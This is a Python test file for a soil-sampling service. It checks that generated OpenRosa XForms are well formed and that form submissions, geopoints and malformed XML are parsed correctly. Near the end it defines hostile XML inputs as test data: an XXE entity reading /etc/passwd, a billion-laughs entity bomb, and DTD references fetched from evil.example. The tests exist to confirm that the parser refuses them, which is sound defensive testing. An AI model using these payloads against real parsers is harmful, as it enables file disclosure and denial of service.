"""The XForm (well-formed, every field, code lists) and submission parsing (geopoint, bad XML, XXE, bombs)."""

from __future__ import annotations

import ast
import pathlib
import xml.etree.ElementTree as ET

import pytest

from fieldsvc.errors import Problem
from fieldsvc.openrosa.submission import parse_geopoint, parse_submission, parse_xml
from fieldsvc.openrosa.xform import FORM_ID, build_form, form_list_xml, response_xml
from fieldsvc.samples.validation import LAND_USES, SAMPLE_TYPES

XF = "{http://www.w3.org/2002/xforms}"
UUID = "0b6d5f0e-6a3c-4f7e-9a51-2f1f0d6c9e11"
FIELDS = ("code", "parcel_pick", "parcel_other", "parcel", "location", "depth_top_cm", "depth_bottom_cm",
          "sample_type", "land_use_observed", "note", "photo1", "photo2", "photo3", "collected_at")


def instance(**values) -> bytes:
    fields = {"code": "BAG-1", "parcel": "P-1", "location": "28.1801 115.6203 41.0 4.5",
              "depth_top_cm": "0", "depth_bottom_cm": "20", "sample_type": "composite",
              "land_use_observed": "paddy", "note": "", "photo1": "a.jpg", "photo2": "", "photo3": "",
              "collected_at": "2026-11-20T08:30:00.000+08:00"}
    fields.update(values)
    body = "".join(f"<{k}>{v}</{k}>" if v is not None else "" for k, v in fields.items())
    return (f'<?xml version="1.0"?><data xmlns:jr="http://openrosa.org/javarosa" id="{FORM_ID}" version="1">'
            f"{body}<meta><instanceID>uuid:{UUID}</instanceID></meta></data>").encode()


@pytest.fixture(scope="module")
def form():
    return build_form(SAMPLE_TYPES, LAND_USES)


def test_xform_is_well_formed_and_binds_every_field(form):
    root = ET.fromstring(form.xml.encode())
    data = root.find(f".//{XF}instance/{XF}data")
    assert data.get("id") == FORM_ID and data.get("version") == form.version
    assert [c.tag.removeprefix(XF) for c in data] == [*FIELDS, "meta"]
    binds = {b.get("nodeset"): b for b in root.iter(f"{XF}bind")}
    assert {f"/data/{f}" for f in FIELDS} | {"/data/meta/instanceID"} == set(binds)
    assert binds["/data/location"].get("type") == "geopoint"
    assert binds["/data/photo2"].get("type") == "binary"
    jr = "{http://openrosa.org/javarosa}"
    assert binds["/data/collected_at"].get(f"{jr}preload") == "timestamp"
    assert binds["/data/collected_at"].get(f"{jr}preloadParams") == "start"
    assert binds["/data/meta/instanceID"].get(f"{jr}preload") == "uid"
    # every question has a control in the body, the photos as image uploads
    refs = {el.get("ref") for el in root.iter() if el.get("ref", "").startswith("/data/")}
    assert {f"/data/{f}" for f in FIELDS if f not in ("collected_at", "parcel")} <= refs


def test_xform_choices_are_the_server_code_lists_with_both_languages(form):
    root = ET.fromstring(form.xml.encode())
    selects = {s.get("ref"): [i.findtext(f"{XF}value") for i in s.iter(f"{XF}item")]
               for s in root.iter(f"{XF}select1")}
    assert selects == {"/data/sample_type": list(SAMPLE_TYPES), "/data/land_use_observed": list(LAND_USES),
                       "/data/parcel_pick": []}
    langs = [t.get("lang") for t in root.iter(f"{XF}translation")]
    assert langs == ["English", "中文"] and "水田" in form.xml


def test_form_version_and_hash_follow_the_content(form):
    again = build_form(SAMPLE_TYPES, LAND_USES)
    changed = build_form(SAMPLE_TYPES[:-1], LAND_USES)
    assert again.md5 == form.md5 and again.version == form.version and form.md5.startswith("md5:")
    assert changed.version != form.version and changed.md5 != form.md5


def test_form_list_and_response_are_well_formed(form):
    root = ET.fromstring(form_list_xml([form], {FORM_ID: "https://x.example/forms/f.xml"}).encode())
    ns = "{http://openrosa.org/xforms/xformsList}"
    assert root.tag == f"{ns}xforms"
    assert root.findtext(f"{ns}xform/{ns}hash") == form.md5
    assert root.findtext(f"{ns}xform/{ns}downloadUrl") == "https://x.example/forms/f.xml"
    msg = ET.fromstring(response_xml("a <b> & c", "error").encode())
    assert msg.findtext("{http://openrosa.org/http/response}message") == "a <b> & c"


def test_submission_maps_onto_push_data_names():
    sub = parse_submission(instance(note="  first\nline "), FORM_ID)
    assert sub.id == UUID and sub.form_id == FORM_ID
    assert sub.data == {"code": "BAG-1", "parcel": "P-1", "collected_at": "2026-11-20T08:30:00.000+08:00",
                        "location": {"lat": 28.1801, "lon": 115.6203, "accuracy_m": 4.5},
                        "depth_top_cm": "0", "depth_bottom_cm": "20", "sample_type": "composite",
                        "land_use_observed": "paddy", "note": "  first\nline "}
    assert sub.photos == {"photo1": "a.jpg"}


def test_unanswered_questions_are_none_and_namespaces_are_ignored():
    raw = instance(code="", location="", photo1="").replace(
        b"<meta>", b'<orx:meta xmlns:orx="http://openrosa.org/xforms">').replace(b"</meta>", b"</orx:meta>")
    sub = parse_submission(raw, FORM_ID)
    assert sub.data["code"] is None and sub.data["location"] is None and sub.photos == {}


@pytest.mark.parametrize("text, expected", [
    ("28.18 115.62 41 4.5", {"lat": 28.18, "lon": 115.62, "accuracy_m": 4.5}),
    ("28.18 115.62", {"lat": 28.18, "lon": 115.62}),
    ("-33.5 151 0 0", {"lat": -33.5, "lon": 151, "accuracy_m": 0}),
    ("0.0 0.0 0.0 0.0", {"lat": 0, "lon": 0, "accuracy_m": 0}),
    ("  28.18   115.62  1 3 ", {"lat": 28.18, "lon": 115.62, "accuracy_m": 3}),
    ("", None),
])
def test_geopoint(text, expected):
    assert parse_geopoint(text) == expected


@pytest.mark.parametrize("text", ["28.18", "28.18 115.62 1 2 3", "NaN 1", "1e3 2", "28,1 115", "abc def", "inf 1"])
def test_bad_geopoint_names_location(text):
    with pytest.raises(Problem) as exc:
        parse_submission(instance(location=text), FORM_ID)
    assert exc.value.status == 400 and "location" in exc.value.details["fields"]


@pytest.mark.parametrize("raw, field", [
    (instance().replace(f"uuid:{UUID}".encode(), b""), "meta/instanceID"),
    (instance().replace(f"uuid:{UUID}".encode(), b"uuid:not-a-uuid"), "meta/instanceID"),
    (instance().replace(f"uuid:{UUID}".encode(), UUID.encode()), "meta/instanceID"),
    (instance().replace(FORM_ID.encode(), b"other_form"), "id"),
    (instance(shoe_size="42"), "shoe_size"),
])
def test_invalid_submission_names_the_field(raw, field):
    with pytest.raises(Problem) as exc:
        parse_submission(raw, FORM_ID)
    assert exc.value.code == "invalid_submission" and field in exc.value.details["fields"]


@pytest.mark.parametrize("raw", [b"", b"<data>", b"not xml", b"<a></b>", b"\xff\xfe<a/>"])
def test_malformed_xml_is_refused(raw):
    with pytest.raises(Problem) as exc:
        parse_submission(raw, FORM_ID)
    assert exc.value.status == 400 and exc.value.code == "malformed_xml"


XXE = b"""<?xml version="1.0"?><!DOCTYPE data [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<data id="fieldsvc_soil_sample"><note>&xxe;</note><meta><instanceID>uuid:%s</instanceID></meta></data>"""
BOMB = (b'<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
        + b"".join(b'<!ENTITY lol%d "%s">' % (i, (b"&lol%d;" % (i - 1) if i > 1 else b"&lol;") * 10)
                   for i in range(1, 10))
        + b']><data id="fieldsvc_soil_sample"><note>&lol9;</note></data>')
PARAM = b'<?xml version="1.0"?><!DOCTYPE d [<!ENTITY % p SYSTEM "http://evil.example/x.dtd"> %p;]><d/>'
EXTERNAL_DTD = b'<?xml version="1.0"?><!DOCTYPE d SYSTEM "http://evil.example/x.dtd"><d/>'


@pytest.mark.parametrize("raw", [XXE % UUID.encode(), BOMB, PARAM, EXTERNAL_DTD], ids=["xxe", "bomb", "param",
                                                                                       "external_dtd"])
def test_doctype_and_entities_are_refused_before_expansion(raw):
    with pytest.raises(Problem) as exc:
        parse_submission(raw, FORM_ID)
    assert exc.value.status == 400 and exc.value.code == "xml_refused"


def test_deep_nesting_and_huge_xml_are_refused():
    with pytest.raises(Problem) as exc:
        parse_submission(b"<a>" * 100 + b"</a>" * 100, FORM_ID)
    assert exc.value.code == "xml_refused"
    with pytest.raises(Problem) as exc:
        parse_submission(instance(note="x" * (1024 * 1024)), FORM_ID)
    assert exc.value.code == "xml_refused"


def test_parse_xml_keeps_text_and_strips_namespaces():
    root = parse_xml(b'<r xmlns="urn:x" xmlns:o="urn:o"><o:a k="v">t&amp;u</o:a></r>')
    assert root.tag == "r" and root[0].tag == "a" and root[0].text == "t&u" and root[0].get("k") == "v"


@pytest.mark.parametrize("module", ["submission.py", "xform.py"])
def test_pure_modules_import_no_flask_or_sqlalchemy(module):
    path = pathlib.Path(__file__).resolve().parents[3] / "fieldsvc" / "openrosa" / module
    names = set()
    for node in ast.walk(ast.parse(path.read_text())):
        if isinstance(node, ast.Import):
            names |= {a.name.split(".")[0] for a in node.names}
        elif isinstance(node, ast.ImportFrom) and node.module:
            names.add(node.module.split(".")[0])
    assert not names & {"flask", "flask_sqlalchemy", "sqlalchemy", "werkzeug"}
